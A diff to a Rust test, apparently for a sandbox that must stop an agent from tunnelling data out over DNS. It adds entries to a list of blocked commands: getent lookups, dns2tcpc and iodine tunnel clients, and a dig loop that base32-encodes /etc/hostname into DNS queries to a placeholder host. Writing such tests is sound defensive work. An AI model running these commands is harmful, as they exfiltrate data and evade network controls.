@@ -88,7 +88,10 @@ fn a_tunnel_in_labels_gets_no_bit_out() {
     let fence = fence(COMMON);
     let tunnels = [
         "for chunk in a b c d; do dig +short +time=1 +tries=1 $chunk.{mark}.{host} TXT; done",
-        "for chunk in a b c d; do ping -c 1 $chunk.{mark}.{host} || getent hosts $chunk.{mark}.{host}; done",
+        "for chunk in a b c d; do getent hosts $chunk.{mark}.{host}; done",
+        "timeout 2 dns2tcpc -z t.{mark}.{host} 10.99.0.53",
+        "timeout 2 dns2tcpc -z t.{mark}.{host} {v4}",
+        "timeout 2 iodine -f -r -P secret -m 1200 10.99.0.53 t.{mark}.{host}",
         "head -c 40 /etc/hostname | base32 | tr -d = | xargs -I% dig +short +time=1 %.{mark}.{host}",
     ];
     stops(&fence.agent(AGENT), EVIL, &tunnels);
